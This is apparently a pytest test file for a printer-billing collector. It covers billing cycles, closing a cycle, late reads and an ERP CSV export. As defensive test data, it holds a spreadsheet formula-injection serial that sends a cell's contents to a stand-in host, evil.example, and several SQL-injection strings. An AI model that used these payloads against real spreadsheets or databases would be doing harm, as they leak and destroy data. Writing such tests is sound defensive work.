"""Billing per cycle on both backends: a site's cycles, every device's read with its evidence,
the missing ones, closing a cycle (late reads kept apart, never refused), and the ERP export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from printwatch.collector import billing, settings
from printwatch.collector.meternames import Mapping, set_name
from printwatch.collector.store import CollectorStore
from printwatch.collector.sync import due_reads, sync_for

from tests.support.collector import FedSite as Site

NOW = dt.datetime(2026, 11, 3, 9, 0)
HOSTILE_SERIAL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def fleet(site: Site) -> None:
    devices = [
        {"n": 1, "serial": "S1", "vendor": "HP", "model": "M404"},
        {"n": 2, "serial": HOSTILE_SERIAL, "vendor": "HP", "model": "M404"},
    ]
    site.send("register", {"devices": devices}, NOW - dt.timedelta(days=40), NOW)
    october = dt.datetime(2026, 10, 1, 1)
    counters = [["Total Impressions", "1.3.6.1.4.1.11.2.3.9.4.2.1.4.1.2.5.0", 1234]]
    site.send(
        "billing",
        {"cycle": "2026-10-01", "r": [[1, {"total": 1000}, counters], [2, {"total": 50}]]},
        october,
        NOW,
    )
    site.send("billing", {"cycle": "2026-11-01", "r": [[2, {"total": 80}]]}, dt.datetime(2026, 11, 1, 2), NOW)


def test_cycles_list_reads_with_evidence_and_the_missing(collector_store: str | Path) -> None:
    store = CollectorStore(collector_store)
    site = Site(store)
    fleet(site)
    listed = billing.cycles(store.con, "site-a", NOW)
    assert [(c["cycle"], c["current"], c["read"], c["missing"], c["closed_at"]) for c in listed] == [
        ("2026-11-01", True, 1, 1, None),
        ("2026-10-01", False, 2, 0, None),
    ]
    october = billing.cycle_reads(store.con, "site-a", "2026-10-01")
    first = october["reads"][0]
    assert (first["serial"], first["meters"], first["read_at"]) == (
        "S1",
        {"total": 1000},
        "2026-10-01T01:00:00Z",
    )
    evidence = first["evidence"]
    assert (
        evidence["seq"] == 2 and evidence["received_at"] == "2026-11-03T09:00:00Z" and evidence["bytes"] > 0
    )
    assert evidence["counters"] == [
        {"name": "Total Impressions", "oid": "1.3.6.1.4.1.11.2.3.9.4.2.1.4.1.2.5.0", "value": 1234}
    ]
    november = billing.cycle_reads(store.con, "site-a", "2026-11-01")
    assert [m["serial"] for m in november["missing"]] == ["S1"] and november["late"] == []
    # The site's schedule decides its cycles: quarterly from the 1st puts November in October's.
    settings.put(store, "site-a", {"billing_cycle": "quarterly"}, by="sam", now=NOW)
    assert billing.cycles(store.con, "site-a", NOW)[0]["cycle"] in ("2026-11-01", "2026-10-01")
    assert [c["cycle"] for c in billing.cycles(store.con, "site-a", NOW) if c["current"]] == ["2026-10-01"]
    store.close()


def test_a_closed_cycle_keeps_late_reads_apart_and_asks_for_nothing(collector_store: str | Path) -> None:
    store = CollectorStore(collector_store)
    site = Site(store)
    fleet(site)
    assert due_reads(store.con, "site-a", NOW)[1] == [1]
    assert billing.close(store, "site-a", "2026-11-01", by="bea", now=NOW) == 3
    with pytest.raises(billing.BillingError, match="closed already"):
        billing.close(store, "site-a", "2026-11-01", by="bea", now=NOW)
    with pytest.raises(billing.BillingError, match="has not begun"):
        billing.close(store, "site-a", "2026-12-01", by="bea", now=NOW)
    for bad in ("2026-13-01", "1; DROP TABLE sites", "", "2026-11-01' OR '1'='1"):
        with pytest.raises(billing.BillingError):
            billing.close(store, "site-a", bad, by="bea", now=NOW)
    with pytest.raises(LookupError):
        billing.close(store, "site-b", "2026-11-01", by="bea", now=NOW)
    # Nothing is due of a closed cycle: the sync answer asks for nothing, no e-mail chases it.
    assert due_reads(store.con, "site-a", NOW)[1] == []
    assert sync_for(store.con, "site-a", NOW)["billing"]["due"] == []
    # The late read is accepted (the stream goes on) and kept, but not in the closed cycle.
    accepted = site.send("billing", {"cycle": "2026-11-01", "r": [[1, {"total": 2000}]]}, NOW)
    assert accepted.seq == 4
    closed = billing.cycle_reads(store.con, "site-a", "2026-11-01")
    assert closed["closed"] == {"at": "2026-11-03T09:00:00Z", "by": "bea", "seq": 3}
    assert [r["serial"] for r in closed["reads"]] == [HOSTILE_SERIAL]
    assert [r["serial"] for r in closed["late"]] == ["S1"] and [m["n"] for m in closed["missing"]] == [1]
    assert [r["serial"] for r in billing.export(store.con, "site-a", "2026-11-01", unmapped=True)] == [
        HOSTILE_SERIAL
    ]
    [listed] = [c for c in billing.cycles(store.con, "site-a", NOW) if c["cycle"] == "2026-11-01"]
    assert (listed["read"], listed["missing"], listed["late"], listed["closed_by"]) == (1, 1, 1, "bea")
    billing.reopen(store, "site-a", "2026-11-01")
    assert [r["serial"] for r in billing.cycle_reads(store.con, "site-a", "2026-11-01")["reads"]] == [
        "S1",
        HOSTILE_SERIAL,
    ]
    with pytest.raises(billing.BillingError, match="not closed"):
        billing.reopen(store, "site-a", "2026-11-01")
    store.close()


def test_the_erp_export_matches_the_reads_and_defuses_formulas(collector_store: str | Path) -> None:
    store = CollectorStore(collector_store)
    site = Site(store)
    fleet(site)
    set_name(store.con, Mapping("", "HP", "", "total", "BW-TOTAL"), now=NOW)
    set_name(store.con, Mapping("site-a", "", "", "Total Impressions", "IMPRESSIONS"), now=NOW)
    rows = billing.export(store.con, "site-a", "2026-10-01")
    text = billing.to_csv(rows)
    parsed = list(csv.reader(io.StringIO(text)))
    assert text.endswith("\r\n") and parsed[0] == [
        "site",
        "serial",
        "model",
        "meter",
        "value",
        "read_at",
        "cycle",
    ]
    assert sorted(parsed[1:]) == sorted(
        [
            ["site-a", "S1", "M404", "BW-TOTAL", "1000", "2026-10-01T01:00:00Z", "2026-10-01"],
            ["site-a", "S1", "M404", "IMPRESSIONS", "1234", "2026-10-01T01:00:00Z", "2026-10-01"],
            ["site-a", "'" + HOSTILE_SERIAL, "M404", "BW-TOTAL", "50", "2026-10-01T01:00:00Z", "2026-10-01"],
        ]
    )
    # Against the reads themselves: every on-time read's mapped meter is in the export once.
    reads = billing.cycle_reads(store.con, "site-a", "2026-10-01")["reads"]
    totals = {(r["serial"], r["meters"]["total"]) for r in reads}
    assert {(r["serial"], r["value"]) for r in rows if r["meter"] == "BW-TOTAL"} == totals
    assert billing.to_json(rows).startswith("[")
    store.close()


def test_devices_sharing_a_serial_or_without_one_are_each_billed(collector_store: str | Path) -> None:
    """Keyed by device, not by serial: four printers, two reporting no serial and two the same
    one (a clone, or a hostile printer hiding another's read), are four rows of the export."""
    store = CollectorStore(collector_store)
    site = Site(store)
    devices = [
        {"n": n, "serial": s, "vendor": "HP", "model": "M404"}
        for n, s in enumerate(["", "", "DUP", "DUP"], 1)
    ]
    site.send("register", {"devices": devices}, NOW - dt.timedelta(days=40), NOW)
    reads = [[n, {"total": total}] for n, total in enumerate([100, 50, 9, 700], 1)]
    site.send("billing", {"cycle": "2026-10-01", "r": reads}, dt.datetime(2026, 10, 1, 1), NOW)
    set_name(store.con, Mapping("", "HP", "", "total", "BW-TOTAL"), now=NOW)
    rows = billing.export(store.con, "site-a", "2026-10-01")
    assert sorted((r["n"], r["serial"], r["value"]) for r in rows) == [
        (1, "", 100),
        (2, "", 50),
        (3, "DUP", 9),
        (4, "DUP", 700),
    ]
    assert len(list(csv.reader(io.StringIO(billing.to_csv(rows))))) == 1 + 4
    store.close()
